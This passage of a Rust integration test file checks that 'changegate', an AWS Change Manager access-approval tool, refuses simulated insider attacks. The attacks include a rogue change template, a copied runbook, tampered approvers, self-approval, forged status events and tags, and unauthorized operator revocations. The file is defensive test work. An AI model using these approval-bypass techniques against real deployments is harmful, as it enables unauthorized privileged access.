//! Issue 7's attacks, each through the BUILT `grant`, `revoke` and `notify`
//! binaries (driven through the Lambda Runtime API by
//! `tests/localaws/lambda_runtime.py`, configured only by environment
//! variables) against the local AWS. Each test names the attack, then shows
//! that changegate refuses or removes as issue 7 says: the exact refusal code
//! (and text), IAM left without a policy, and what was announced on
//! changegate's own bus.
//!
//! The binaries read the real clock, so no `now` is passed anywhere here;
//! windows are chosen so that no test waits for one to end.

use aws_sdk_ssm::types::{ResourceTypeForTagging, Runbook, Tag};
use changegate::refusal::Refusal;
use changegate_tests::operators::OperatorRunbook;
use changegate_tests::*;
use chrono::{DateTime, DurationRound, TimeDelta, Utc};
use serde_json::{Value, json};

// ------------------------------------------------------------------ harness

/// The responses of a run in which every invocation must succeed.
fn responses(function: &str, run: &Run) -> Vec<Value> {
    assert!(
        run.output.status.success() && run.invocations.iter().all(|i| i["ok"] == true),
        "{function} failed: {:?}\n{}",
        run.invocations,
        String::from_utf8_lossy(&run.output.stderr)
    );
    run.invocations
        .iter()
        .map(|i| i["response"].clone())
        .collect()
}

fn outcome(response: &Value) -> &str {
    response["outcome"].as_str().unwrap_or("none")
}

fn count(responses: &[Value], wanted: &str) -> usize {
    responses.iter().filter(|r| outcome(r) == wanted).count()
}

/// The template's notify rule, on changegate's bus (template.yaml `ChangegateEvents`).
fn notify_pattern() -> Value {
    json!({"source": ["changegate"], "detail-type": ["Access Granted", "Access Refused", "Access Revoked"]})
}

/// How a change request is filed: which template and runbook, its title, tags, schedule.
struct Filing<'a> {
    template: &'a str,
    runbook: &'a str,
    title: &'a str,
    tags: &'a [(&'a str, &'a str)],
    scheduled: Option<DateTime<Utc>>,
}

impl Default for Filing<'_> {
    /// As the deployment expects it: its template and runbook, no tags, run at once.
    fn default() -> Self {
        Self {
            template: CHANGE_TEMPLATE,
            runbook: ACCESS_RUNBOOK,
            title: "prod access",
            tags: &[],
            scheduled: None,
        }
    }
}

/// One world per test: the local AWS, queues behind the rules (Change Manager
/// events on the default bus, changegate's events on its own bus), and the
/// environment every binary gets.
struct Scene {
    world: World,
    ssm_events: String,
    cg_events: String,
    env: Vec<(String, String)>,
}

impl Scene {
    async fn new(extra_env: &[(&str, &str)]) -> Self {
        let world = World::new().await;
        let ssm_events = world.capture("ssm-events", change_request_pattern()).await;
        let cg_events = world
            .capture("changegate-events", changegate_pattern())
            .await;
        let mut env = world.aws.function_env();
        env.push(("CHANGEGATE_ALLOWED_ACCOUNTS".into(), PROD_ACCOUNT.into()));
        env.push(("RUST_LOG".into(), "info".into()));
        env.extend(
            extra_env
                .iter()
                .map(|(k, v)| ((*k).to_owned(), (*v).to_owned())),
        );
        Self {
            world,
            ssm_events,
            cg_events,
            env,
        }
    }

    /// template.yaml's operators' runbook with dave as its one operator
    /// (`OperatorArns`), and dave's credentials.
    async fn operators(&self) -> (OperatorRunbook, Creds) {
        let (dave_arn, dave) = self.world.user("dave").await;
        (OperatorRunbook::create(&self.world, &dave_arn).await, dave)
    }

    /// Runs revoke, configured with the operators' runbook `ops` as the
    /// template configures it, over `payload`.
    fn revoke_as_deployed(&self, ops: &OperatorRunbook, payload: &Value) -> Vec<Value> {
        let mut env = self.env.clone();
        env.extend(ops.env());
        responses(
            "revoke",
            &invoke("revoke", std::slice::from_ref(payload), &env),
        )
    }

    /// Runs `function` over `events` in one process; every invocation must succeed.
    fn run(&self, function: &str, events: &[Value]) -> Vec<Value> {
        responses(function, &invoke(function, events, &self.env))
    }

    /// Every Change Manager event caught so far.
    async fn ssm(&self) -> Vec<Value> {
        self.world.drain(&self.ssm_events).await
    }

    /// Everything changegate announced on its bus since the last call.
    async fn announced(&self) -> Vec<Value> {
        self.world.drain(&self.cg_events).await
    }

    fn ssm_client(&self) -> aws_sdk_ssm::Client {
        aws_sdk_ssm::Client::new(&self.world.sdk)
    }

    /// A change request filed by `creds` as `filing` says.
    async fn file(&self, creds: &Creds, params: Params, filing: Filing<'_>) -> String {
        let ssm = aws_sdk_ssm::Client::new(&self.world.aws.sdk_as(creds).await);
        let runbook = Runbook::builder()
            .document_name(filing.runbook)
            .set_parameters(Some(params))
            .build()
            .expect("runbook");
        let tags = filing
            .tags
            .iter()
            .map(|(k, v)| Tag::builder().key(*k).value(*v).build().expect("tag"))
            .collect();
        ssm.start_change_request_execution()
            .document_name(filing.template)
            .change_request_name(filing.title)
            .runbooks(runbook)
            .set_tags(Some(tags))
            .set_scheduled_time(
                filing
                    .scheduled
                    .map(|t| aws_sdk_ssm::primitives::DateTime::from_secs(t.timestamp())),
            )
            .send()
            .await
            .unwrap_or_else(|e| panic!("file: {:?}", e.into_service_error()))
            .automation_execution_id()
            .expect("id")
            .to_owned()
    }

    /// A change template or runbook document, made by someone in the account.
    async fn document(&self, name: &str, kind: aws_sdk_ssm::types::DocumentType, content: Value) {
        self.ssm_client()
            .create_document()
            .name(name)
            .document_type(kind)
            .document_format(aws_sdk_ssm::types::DocumentFormat::Json)
            .content(content.to_string())
            .send()
            .await
            .unwrap_or_else(|e| panic!("create document {name}: {e:?}"));
    }

    /// The tags on a change request, as (key, value).
    async fn tags(&self, id: &str) -> Vec<(String, String)> {
        let out = self
            .ssm_client()
            .list_tags_for_resource()
            .resource_type(ResourceTypeForTagging::Automation)
            .resource_id(id)
            .send()
            .await
            .expect("list tags");
        let mut tags: Vec<(String, String)> = out
            .tag_list()
            .iter()
            .map(|t| (t.key().to_owned(), t.value().to_owned()))
            .collect();
        tags.sort();
        tags
    }

    /// Whether changegate's decision table holds an item for `id`.
    async fn decision_recorded(&self, id: &str) -> bool {
        aws_sdk_dynamodb::Client::new(&self.world.sdk)
            .get_item()
            .table_name(DECISIONS_TABLE)
            .key(
                "change_request_id",
                aws_sdk_dynamodb::types::AttributeValue::S(id.to_owned()),
            )
            .consistent_read(true)
            .send()
            .await
            .expect("get item")
            .item()
            .is_some()
    }
}

/// A change template as the stack writes it, but with two approval levels,
/// each listing the deployment's approvers.
fn two_level_template() -> Value {
    let mut template = change_template(&[]);
    template["mainSteps"] = json!([approval_level("Level1"), approval_level("Level2")]);
    template
}

/// A change template with the given approval levels (each: name, approver, type).
fn change_template(levels: &[(&str, &str, &str)]) -> Value {
    let steps: Vec<Value> = levels
        .iter()
        .map(|(name, approver, kind)| {
            json!({
                "name": name,
                "action": "aws:approve",
                "timeoutSeconds": 3600,
                "inputs": {"Message": format!("{name}: approve production access"), "EnhancedApprovals": {
                    "Approvers": [{"approver": approver, "type": kind, "minRequiredApprovals": 1}],
                    "MinRequiredApprovals": 1}},
            })
        })
        .collect();
    json!({
        "schemaVersion": "0.3",
        "emergencyChange": false,
        "autoApprovable": false,
        "executableRunBooks": [{"name": ACCESS_RUNBOOK, "version": "$DEFAULT"}],
        "mainSteps": steps,
    })
}

fn user_arn(name: &str) -> String {
    format!("arn:aws:iam::{HOME_ACCOUNT}:user/{name}")
}

fn detail_types(events: &[Value]) -> Vec<&str> {
    events
        .iter()
        .filter_map(|e| e["detail-type"].as_str())
        .collect()
}

/// The one `Access Refused` announced for `id`, with `refusal`'s code and text.
fn assert_refused_once(responses: &[Value], announced: &[Value], id: &str, refusal: &Refusal) {
    let refused: Vec<&Value> = responses
        .iter()
        .filter(|r| outcome(r) == "refused")
        .collect();
    assert_eq!(refused.len(), 1, "refused exactly once: {responses:?}");
    assert_eq!(refused[0]["change_request_id"], id);
    assert_eq!(refused[0]["reason_code"], refusal.code());
    assert_eq!(refused[0]["reason"], refusal.to_string());
    assert!(
        responses
            .iter()
            .all(|r| matches!(outcome(r), "refused" | "already-decided" | "ignored")),
        "{responses:?}"
    );
    assert_eq!(detail_types(announced), ["Access Refused"], "{announced:?}");
    assert_eq!(announced[0]["detail"]["change-request-id"], id);
    assert_eq!(announced[0]["detail"]["reason-code"], refusal.code());
    assert_eq!(announced[0]["detail"]["reason"], refusal.to_string());
}

/// A window from a second ago to an hour from now, in UTC.
fn an_hour() -> (String, String) {
    (at(-1, "Z"), at(3600, "Z"))
}

fn hour_request(user: &str) -> Params {
    let (start, end) = an_hour();
    request(user, PROD_ACCOUNT, &start, &end)
}

// ------------------------------------------------------------------ 1. only changegate's approval path

#[tokio::test]
async fn given_a_request_filed_under_another_change_template_with_a_lax_approver_when_approved_then_grant_refuses_it_as_wrong_change_template()
 {
    // Given a sandbox change template in the account that mallory alone approves
    let s = Scene::new(&[]).await;
    s.document(
        "sandbox-access",
        aws_sdk_ssm::types::DocumentType::ChangeTemplate,
        change_template(&[("SandboxApproval", "mallory", "IamUser")]),
    )
    .await;
    let (_, alice) = s.world.eligible_user("alice", PROD_ACCOUNT).await;
    let (_, mallory) = s.world.user("mallory").await;

    // When alice files changegate's four parameters under it, mallory approves,
    // and grant gets every status event
    let id = s
        .file(
            &alice,
            hour_request("alice"),
            Filing {
                template: "sandbox-access",
                ..Filing::default()
            },
        )
        .await;
    s.world.signal(&mallory, &id, true).await;
    let events = s.ssm().await;
    assert!(
        events
            .iter()
            .any(|e| e["detail"]["ops-item-status"] == "Approved"),
        "{events:?}"
    );
    let got = s.run("grant", &events);

    // Then it is refused once as wrong-change-template, nothing is attached,
    // and only the refusal is announced
    let refusal = Refusal::WrongChangeTemplate {
        found: "sandbox-access".into(),
        expected: CHANGE_TEMPLATE.into(),
    };
    assert_refused_once(&got, &s.announced().await, &id, &refusal);
    assert!(s.world.policies("alice").await.is_empty());
}

#[tokio::test]
async fn given_a_change_request_running_a_look_alike_copy_of_the_runbook_when_approved_then_grant_refuses_it_as_wrong_runbook()
 {
    // Given a byte-for-byte copy of changegate's access runbook under another name
    let s = Scene::new(&[]).await;
    let original = s
        .ssm_client()
        .get_document()
        .name(ACCESS_RUNBOOK)
        .send()
        .await
        .expect("get runbook");
    let content: Value =
        serde_json::from_str(original.content().expect("content")).expect("runbook JSON");
    s.document(
        "changegate-access-runbook-v2",
        aws_sdk_ssm::types::DocumentType::Automation,
        content,
    )
    .await;
    // and a new default version of changegate's change template that lists
    // it too (Change Manager runs only a runbook its template lists)
    let template = s
        .ssm_client()
        .get_document()
        .name(CHANGE_TEMPLATE)
        .send()
        .await
        .expect("get change template");
    let mut tampered: Value =
        serde_json::from_str(template.content().expect("content")).expect("template JSON");
    tampered["executableRunBooks"]
        .as_array_mut()
        .expect("runbooks")
        .push(json!({"name": "changegate-access-runbook-v2", "version": "$DEFAULT"}));
    let version = s
        .ssm_client()
        .update_document()
        .name(CHANGE_TEMPLATE)
        .document_version("$LATEST")
        .document_format(aws_sdk_ssm::types::DocumentFormat::Json)
        .content(tampered.to_string())
        .send()
        .await
        .expect("update change template")
        .document_description()
        .and_then(|d| d.document_version())
        .expect("new version")
        .to_owned();
    s.ssm_client()
        .update_document_default_version()
        .name(CHANGE_TEMPLATE)
        .document_version(version)
        .send()
        .await
        .expect("make it the default");
    let (_, alice) = s.world.eligible_user("alice", PROD_ACCOUNT).await;
    let (_, bob) = s.world.user("bob").await;

    // When alice files under changegate's own template but with the copy, and bob approves
    let id = s
        .file(
            &alice,
            hour_request("alice"),
            Filing {
                runbook: "changegate-access-runbook-v2",
                ..Filing::default()
            },
        )
        .await;
    s.world.signal(&bob, &id, true).await;
    let got = s.run("grant", &s.ssm().await);

    // Then it is refused once as wrong-runbook, and nothing is attached
    let refusal = Refusal::WrongRunbook {
        found: "changegate-access-runbook-v2".into(),
        expected: ACCESS_RUNBOOK.into(),
    };
    assert_refused_once(&got, &s.announced().await, &id, &refusal);
    assert!(s.world.policies("alice").await.is_empty());
}

#[tokio::test]
async fn given_a_two_level_change_template_when_only_level_one_approved_then_nothing_is_granted_and_after_level_two_it_is_granted_once()
 {
    // Given a deployment whose change template has two levels, each listing
    // the deployment's approvers
    let template = "changegate-access-two-levels";
    let s = Scene::new(&[("CHANGEGATE_CHANGE_TEMPLATE", template)]).await;
    s.document(
        template,
        aws_sdk_ssm::types::DocumentType::ChangeTemplate,
        two_level_template(),
    )
    .await;
    let (_, alice) = s.world.eligible_user("alice", PROD_ACCOUNT).await;
    let (_, bob) = s.world.user("bob").await;
    let (_, carol) = s.world.user("carol").await;
    let id = s
        .file(
            &alice,
            hour_request("alice"),
            Filing {
                template,
                ..Filing::default()
            },
        )
        .await;

    // When bob approves level 1 only, and grant gets what was caught plus an
    // event claiming the request is approved
    s.world.signal(&bob, &id, true).await;
    let mut events = s.ssm().await;
    events.push(change_request_event(&id, "Approved"));
    let got = s.run("grant", &events);

    // Then grant waits: nothing attached, decided or announced
    assert_eq!(count(&got, "waiting"), 1, "{got:?}");
    assert!(
        got.iter()
            .all(|r| matches!(outcome(r), "waiting" | "ignored")),
        "{got:?}"
    );
    assert!(s.world.policies("alice").await.is_empty());
    assert!(!s.decision_recorded(&id).await);
    assert!(s.announced().await.is_empty());

    // When carol approves level 2 and every event arrives (the forged one again too)
    s.world.signal(&carol, &id, true).await;
    let mut events = s.ssm().await;
    assert!(
        events
            .iter()
            .any(|e| e["detail"]["ops-item-status"] == "Approved"),
        "{events:?}"
    );
    events.push(change_request_event(&id, "Approved"));
    let got = s.run("grant", &events);

    // Then it is granted exactly once, naming both levels' approvers
    assert_eq!(count(&got, "granted"), 1, "{got:?}");
    assert_eq!(
        s.world.policies("alice").await,
        vec![format!("changegate-{id}")]
    );
    let announced = s.announced().await;
    assert_eq!(
        detail_types(&announced),
        ["Access Granted"],
        "{announced:?}"
    );
    assert_eq!(
        announced[0]["detail"]["approvers"],
        json!([user_arn("bob"), user_arn("carol")])
    );
}

#[tokio::test]
async fn given_a_change_template_level_that_lists_more_approvers_than_the_deployment_when_one_of_them_approves_then_approvers_tampered()
 {
    // Given a deployment configured with bob and carol only, while its change
    // template's level lists all five of the world's approvers
    let configured = format!("{},{}", user_arn("bob"), user_arn("carol"));
    let s = Scene::new(&[("CHANGEGATE_APPROVERS", configured.as_str())]).await;
    let (_, alice) = s.world.eligible_user("alice", PROD_ACCOUNT).await;
    let (_, bob) = s.world.user("bob").await;
    let (_, frank) = s.world.user("frank").await;

    // When bob approves one request: the level ran with more approvers than configured
    let id = s
        .file(&alice, hour_request("alice"), Filing::default())
        .await;
    s.world.signal(&bob, &id, true).await;
    let got = s.run("grant", &s.ssm().await);

    // Then it is refused as tampered, and nothing is attached
    let refusal = Refusal::ApproversTampered {
        step: "ApproveAccess".into(),
    };
    assert_refused_once(&got, &s.announced().await, &id, &refusal);
    assert!(s.world.policies("alice").await.is_empty());

    // And when frank, whom the deployment does not name, approves another,
    // the refusal names him
    let id = s
        .file(&alice, hour_request("alice"), Filing::default())
        .await;
    s.world.signal(&frank, &id, true).await;
    let got = s.run("grant", &s.ssm().await);
    let refusal = Refusal::UnexpectedApprover {
        step: "ApproveAccess".into(),
        approver: user_arn("frank"),
    };
    assert_refused_once(&got, &s.announced().await, &id, &refusal);
    assert!(s.world.policies("alice").await.is_empty());
}

// ------------------------------------------------------------------ 2. whole identities

#[tokio::test]
async fn given_delegation_on_when_the_beneficiary_approves_their_own_delegated_access_then_grant_refuses_it_as_self_approved()
 {
    // Given a deployment that allows delegated requests, and alice (a lead)
    // who files for dave
    let s = Scene::new(&[("CHANGEGATE_ALLOW_DELEGATED", "true")]).await;
    let (_, alice) = s.world.user("alice").await;
    let (_, dave) = s.world.eligible_user("dave", PROD_ACCOUNT).await;
    let id = s
        .file(&alice, hour_request("dave"), Filing::default())
        .await;

    // When dave, who would receive the access, approves it himself
    s.world.signal(&dave, &id, true).await;
    let got = s.run("grant", &s.ssm().await);

    // Then it is refused as self-approved; neither holds a policy
    let refusal = Refusal::SelfApproved {
        requester: user_arn("dave"),
    };
    let announced = s.announced().await;
    assert_refused_once(&got, &announced, &id, &refusal);
    assert_eq!(announced[0]["detail"]["user"], "alice");
    assert!(s.world.policies("dave").await.is_empty());
    assert!(s.world.policies("alice").await.is_empty());
}

// ------------------------------------------------------------------ 3. one decision record nobody else writes

#[tokio::test]
async fn given_a_change_request_already_holding_five_tags_when_its_events_are_redelivered_then_it_is_granted_and_announced_exactly_once()
 {
    // Given alice files a request with the five tags SSM allows
    let s = Scene::new(&[]).await;
    let (_, alice) = s.world.eligible_user("alice", PROD_ACCOUNT).await;
    let (_, bob) = s.world.user("bob").await;
    let five = [
        ("team", "payments"),
        ("ticket", "INC-4711"),
        ("cost-center", "cc-42"),
        ("env", "prod"),
        ("owner", "alice"),
    ];
    let id = s
        .file(
            &alice,
            hour_request("alice"),
            Filing {
                tags: &five,
                ..Filing::default()
            },
        )
        .await;
    // (the local AWS is as strict as SSM: a sixth tag is refused)
    let sixth = s
        .ssm_client()
        .add_tags_to_resource()
        .resource_type(ResourceTypeForTagging::Automation)
        .resource_id(&id)
        .tags(Tag::builder().key("sixth").value("x").build().expect("tag"))
        .send()
        .await;
    assert!(
        sixth
            .as_ref()
            .is_err_and(|e| format!("{e:?}").contains("TooManyTagsError")),
        "{sixth:?}"
    );

    // When bob approves and grant gets every event twice in one process, then
    // once more in a fresh one (EventBridge's at-least-once delivery)
    s.world.signal(&bob, &id, true).await;
    let events = s.ssm().await;
    let twice: Vec<Value> = events.iter().chain(events.iter()).cloned().collect();
    let mut got = s.run("grant", &twice);
    got.extend(s.run("grant", &events));

    // Then it is granted once and announced once; the tags are alice's five
    assert_eq!(count(&got, "granted"), 1, "{got:?}");
    assert!(
        got.iter()
            .all(|r| matches!(outcome(r), "granted" | "already-decided" | "ignored")),
        "{got:?}"
    );
    assert_eq!(
        s.world.policies("alice").await,
        vec![format!("changegate-{id}")]
    );
    assert_eq!(detail_types(&s.announced().await), ["Access Granted"]);
    let mut want: Vec<(String, String)> = five
        .iter()
        .map(|(k, v)| ((*k).to_owned(), (*v).to_owned()))
        .collect();
    want.sort();
    assert_eq!(s.tags(&id).await, want);
}

#[tokio::test]
async fn given_someone_writes_and_removes_the_outcome_tag_on_the_change_request_when_granting_then_the_decision_is_unaffected()
 {
    // Given alice's request, on which someone with ssm:AddTagsToResource
    // pre-wrote the old decision tag, as if it had been granted already
    let s = Scene::new(&[]).await;
    let (_, alice) = s.world.eligible_user("alice", PROD_ACCOUNT).await;
    let (_, bob) = s.world.user("bob").await;
    let id = s
        .file(&alice, hour_request("alice"), Filing::default())
        .await;
    let tag = |value: &str| {
        Tag::builder()
            .key("changegate:outcome")
            .value(value)
            .build()
            .expect("tag")
    };
    s.ssm_client()
        .add_tags_to_resource()
        .resource_type(ResourceTypeForTagging::Automation)
        .resource_id(&id)
        .tags(tag("granted"))
        .send()
        .await
        .expect("pre-write the tag");

    // When bob approves and grant gets the events
    s.world.signal(&bob, &id, true).await;
    let events = s.ssm().await;
    let got = s.run("grant", &events);

    // Then the tag changes nothing: alice is granted, once
    assert_eq!(count(&got, "granted"), 1, "{got:?}");
    assert_eq!(
        s.world.policies("alice").await,
        vec![format!("changegate-{id}")]
    );
    assert_eq!(detail_types(&s.announced().await), ["Access Granted"]);

    // When the tag is removed, then rewritten as a refusal, and the events
    // (and a forged "Approved") arrive again
    s.ssm_client()
        .remove_tags_from_resource()
        .resource_type(ResourceTypeForTagging::Automation)
        .resource_id(&id)
        .tag_keys("changegate:outcome")
        .send()
        .await
        .expect("remove the tag");
    let mut again = events.clone();
    again.push(change_request_event(&id, "Approved"));
    let first = s.run("grant", &again);
    s.ssm_client()
        .add_tags_to_resource()
        .resource_type(ResourceTypeForTagging::Automation)
        .resource_id(&id)
        .tags(tag("refused:self-approved"))
        .send()
        .await
        .expect("rewrite the tag");
    let second = s.run("grant", &again);

    // Then nothing is granted or announced again, and the grant stays
    for got in [&first, &second] {
        assert_eq!(count(got, "granted"), 0, "{got:?}");
        assert!(
            got.iter()
                .all(|r| matches!(outcome(r), "already-decided" | "ignored")),
            "{got:?}"
        );
        assert!(
            got.iter()
                .filter(|r| outcome(r) == "already-decided")
                .all(|r| r["decision"] == "granted"),
            "{got:?}"
        );
    }
    assert_eq!(
        s.world.policies("alice").await,
        vec![format!("changegate-{id}")]
    );
    assert!(s.announced().await.is_empty());
}

// ------------------------------------------------------------------ 4. early end that ends access

#[tokio::test]
async fn given_a_running_granted_change_request_when_a_cancelled_event_is_forged_then_nothing_is_removed_and_a_real_cancel_removes_it_at_once()
 {
    // Given alice's approved request, scheduled to run in an hour (still open), granted
    let s = Scene::new(&[]).await;
    let (_, alice) = s.world.eligible_user("alice", PROD_ACCOUNT).await;
    let (_, bob) = s.world.user("bob").await;
    let (start, end) = (at(-1, "Z"), at(7200, "Z"));
    let id = s
        .file(
            &alice,
            request("alice", PROD_ACCOUNT, &start, &end),
            Filing {
                scheduled: Some(Utc::now() + TimeDelta::hours(1)),
                ..Filing::default()
            },
        )
        .await;
    s.world.signal(&bob, &id, true).await;
    let got = s.run("grant", &s.ssm().await);
    assert_eq!(count(&got, "granted"), 1, "{got:?}");
    let name = format!("changegate-{id}");
    assert_eq!(s.world.policies("alice").await, vec![name.clone()]);
    assert_eq!(detail_types(&s.announced().await), ["Access Granted"]);

    // When revoke is given a forged "Cancelled" for it
    let forged = s.run("revoke", &[change_request_event(&id, "Cancelled")]);

    // Then Systems Manager's word (Scheduled) wins: nothing is removed or announced
    assert_eq!(outcome(&forged[0]), "ignored", "{forged:?}");
    assert!(
        forged[0]["reason"]
            .as_str()
            .is_some_and(|r| r.contains("Scheduled")),
        "{forged:?}"
    );
    assert_eq!(s.world.policies("alice").await, vec![name.clone()]);
    assert!(s.announced().await.is_empty());

    // When alice really cancels it and revoke gets the real event
    let ssm = aws_sdk_ssm::Client::new(&s.world.aws.sdk_as(&alice).await);
    ssm.stop_automation_execution()
        .automation_execution_id(&id)
        .r#type(aws_sdk_ssm::types::StopType::Cancel)
        .send()
        .await
        .expect("cancel");
    let ended: Vec<Value> = s
        .ssm()
        .await
        .into_iter()
        .filter(|e| e["detail"]["ops-item-status"] == "Cancelled")
        .collect();
    assert_eq!(ended.len(), 1, "{ended:?}");
    let real = s.run("revoke", &ended);

    // Then the grant is removed at once, with cause Cancelled, and announced
    assert_eq!(outcome(&real[0]), "revoked", "{real:?}");
    assert_eq!(real[0]["cause"], "Cancelled");
    assert_eq!(real[0]["policy_name"], name);
    assert!(s.world.policies("alice").await.is_empty());
    let announced = s.announced().await;
    assert_eq!(
        detail_types(&announced),
        ["Access Revoked"],
        "{announced:?}"
    );
    assert_eq!(announced[0]["detail"]["cause"], "Cancelled");
    assert_eq!(announced[0]["detail"]["change-request-id"], id);
}

#[tokio::test]
async fn given_an_operator_ended_a_request_before_grant_ran_when_its_approval_events_arrive_then_grant_attaches_nothing_and_refuses_once_saying_why()
 {
    // Given alice's approved request, whose approval events are still on their way
    let s = Scene::new(&[]).await;
    let (_, alice) = s.world.eligible_user("alice", PROD_ACCOUNT).await;
    let (_, bob) = s.world.user("bob").await;
    let id = s
        .file(&alice, hour_request("alice"), Filing::default())
        .await;
    s.world.signal(&bob, &id, true).await;
    let events = s.ssm().await;

    // When an operator (dave) ends it first through the operators' runbook
    // (the early-end tombstone), then grant gets the events
    let (ops, dave) = s.operators().await;
    let call = ops.start(&s.world, &dave, &id, "incident closed").await;
    let operator = s.revoke_as_deployed(&ops, &call.payload);
    assert_eq!(outcome(&operator[0]), "ignored", "{operator:?}");
    assert_eq!(
        operator[0]["reason"],
        "alice holds no grant for this request"
    );
    assert!(ended(&s, &id).await, "the request is closed to grants");
    call.answer(&s.world, &operator[0]);
    let got = s.run("grant", &events);

    // Then grant respects the tombstone: nothing attached, and the approval
    // that came after the end is refused once, saying why (never silence)
    assert_eq!(count(&got, "refused"), 1, "{got:?}");
    for r in got.iter().filter(|r| outcome(r) != "ignored") {
        match outcome(r) {
            "refused" => {
                assert_eq!(r["reason_code"], "ended-before-grant", "{got:?}");
                assert_eq!(
                    r["reason"],
                    "The request was ended (an operator revoked it) before it was approved, so no access is granted. File a new request if you still need access.",
                );
            }
            other => {
                assert_eq!(other, "already-decided", "{got:?}");
                assert_eq!(r["decision"], "ended (operator)", "{got:?}");
            }
        }
    }
    assert!(s.world.policies("alice").await.is_empty());
    let announced = s.announced().await;
    assert_eq!(announced.len(), 1, "{announced:?}");
}

/// Whether the decision record of request `id` has an end (the tombstone).
async fn ended(s: &Scene, id: &str) -> bool {
    let item = aws_sdk_dynamodb::Client::new(&s.world.sdk)
        .get_item()
        .table_name(DECISIONS_TABLE)
        .key(
            "change_request_id",
            aws_sdk_dynamodb::types::AttributeValue::S(id.to_owned()),
        )
        .consistent_read(true)
        .send()
        .await
        .expect("get the record");
    item.item()
        .is_some_and(|i| i.contains_key(changegate::record::attr::ENDED_AT))
}

/// alice's request, approved by bob and granted; returns its id and policy name.
async fn granted_hour(s: &Scene) -> (String, String) {
    let (_, alice) = s.world.eligible_user("alice", PROD_ACCOUNT).await;
    let (_, bob) = s.world.user("bob").await;
    let id = s
        .file(&alice, hour_request("alice"), Filing::default())
        .await;
    s.world.signal(&bob, &id, true).await;
    let got = s.run("grant", &s.ssm().await);
    assert_eq!(count(&got, "granted"), 1, "{got:?}");
    let name = format!("changegate-{id}");
    assert_eq!(s.world.policies("alice").await, vec![name.clone()]);
    s.announced().await;
    (id, name)
}

#[tokio::test]
async fn given_a_grant_when_an_operator_starts_the_operators_runbook_then_revoke_ends_it_and_the_runbook_completes()
 {
    // Given alice's grant, and dave, the deployment's operator
    let s = Scene::new(&[]).await;
    let (id, name) = granted_hour(&s).await;
    let (ops, dave) = s.operators().await;

    // When dave starts the operators' runbook for it and revoke gets its call
    let call = ops.start(&s.world, &dave, &id, "incident over").await;
    assert_eq!(
        call.payload,
        json!({"changegate-end": {"execution-id": call.execution_id}}),
        "the runbook passes only its own execution id"
    );
    let got = s.revoke_as_deployed(&ops, &call.payload);

    // Then the grant is removed as an operator's, and announced once
    assert_eq!(outcome(&got[0]), "revoked", "{got:?}");
    assert_eq!(got[0]["cause"], "operator");
    assert_eq!(got[0]["policy_name"], name);
    assert!(s.world.policies("alice").await.is_empty());
    let announced = s.announced().await;
    assert_eq!(
        detail_types(&announced),
        ["Access Revoked"],
        "{announced:?}"
    );
    assert_eq!(announced[0]["detail"]["cause"], "operator");

    // And the message people read names dave, as Systems Manager recorded him,
    // and his reason, from the decision record
    let topic = s.world.topic("changegate-notifications").await;
    let event = serde_json::from_value(announced[0].clone()).expect("an EventBridge event");
    notifier(&s.world.sdk, &topic)
        .handle(event)
        .await
        .expect("notify");
    let published = s.world.aws.sns_published();
    // (one message per protocol: the email's text is read)
    let message = published
        .iter()
        .filter_map(|p| p["Message"].as_str())
        .filter_map(|m| serde_json::from_str::<Value>(m).ok())
        .filter_map(|m| m["email"].as_str().map(str::to_owned))
        .find(|m| m.contains("Access revoked"))
        .expect("the revocation's message");
    let line = |label: &str| {
        message
            .lines()
            .find(|l| l.starts_with(label))
            .unwrap_or_default()
            .to_owned()
    };
    assert!(line("Ended by:").ends_with("user/dave"), "{message}");
    assert!(
        line("Their reason:").ends_with("incident over"),
        "{message}"
    );

    // And the runbook's step ends with revoke's answer
    call.answer(&s.world, &got[0]);
    let exec = aws_sdk_ssm::Client::new(&s.world.sdk)
        .get_automation_execution()
        .automation_execution_id(&call.execution_id)
        .send()
        .await
        .expect("the operator's execution");
    let exec = exec.automation_execution().expect("execution");
    assert_eq!(
        exec.automation_execution_status().map(|s| s.as_str()),
        Some("Success")
    );

    // And the same call replayed once the execution is over ends nothing more
    let replay = s.revoke_as_deployed(&ops, &call.payload);
    assert_eq!(outcome(&replay[0]), "refused", "{replay:?}");
    assert_eq!(replay[0]["reason_code"], "operators-runbook-not-running");
}

#[tokio::test]
async fn given_a_grant_when_someone_neither_an_operator_nor_its_requester_starts_the_end_runbook_then_nothing_is_removed_and_revoke_says_why()
 {
    // Given alice's grant, dave the operator, and mallory, who may start
    // the runbook but is neither in OperatorArns nor alice
    let s = Scene::new(&[]).await;
    let (id, name) = granted_hour(&s).await;
    let (ops, _dave) = s.operators().await;
    let (mallory_arn, mallory) = s.world.user("mallory").await;

    // When mallory starts the operators' runbook for alice's request
    let call = ops.start(&s.world, &mallory, &id, "not mine to end").await;
    let got = s.revoke_as_deployed(&ops, &call.payload);

    // Then revoke refuses, naming who started it; alice keeps her grant and
    // nothing is announced
    assert_eq!(outcome(&got[0]), "refused", "{got:?}");
    assert_eq!(got[0]["reason_code"], "may-not-end");
    assert_eq!(
        got[0]["reason"],
        format!(
            "Execution {} was started by {mallory_arn}, who is neither one of this deployment's operators (OperatorArns) nor the person who filed request {id} or the one it is for; nothing is removed.",
            call.execution_id
        )
    );
    assert_eq!(s.world.policies("alice").await, vec![name]);
    assert!(s.announced().await.is_empty());

    // And the request is not closed: its record has no end
    assert!(!ended(&s, &id).await, "the request was closed");
}

#[tokio::test]
async fn given_a_grant_when_revoke_gets_the_old_bare_operator_payload_then_nothing_is_ended() {
    // Given alice's grant
    let s = Scene::new(&[]).await;
    let (id, name) = granted_hour(&s).await;
    let (ops, _dave) = s.operators().await;

    // When anyone allowed to invoke revoke sends the payload of earlier releases
    let got = s.revoke_as_deployed(
        &ops,
        &json!({"changegate-revoke": {"change-request-id": id, "reason": "incident over"}}),
    );

    // Then it is refused: alice keeps her grant, nothing is announced, and
    // the request is not closed to grants
    assert_eq!(outcome(&got[0]), "refused", "{got:?}");
    assert_eq!(got[0]["reason_code"], "retired-payload");
    assert_eq!(s.world.policies("alice").await, vec![name]);
    assert!(s.announced().await.is_empty());
    assert!(!ended(&s, &id).await, "the request was closed");
}

// ------------------------------------------------------------------ 5. events and notifications nobody can forge

#[tokio::test]
async fn given_a_changegate_event_put_on_the_default_bus_by_someone_when_routed_then_no_notify_rule_sees_it()
 {
    // Given the notify rule on changegate's bus, a catch-all for the same
    // pattern on the default bus, the notification topic, and alice's grant
    let s = Scene::new(&[]).await;
    let notify_rule = s
        .world
        .capture_on(EVENT_BUS, "notify-rule", notify_pattern())
        .await;
    let on_default = s
        .world
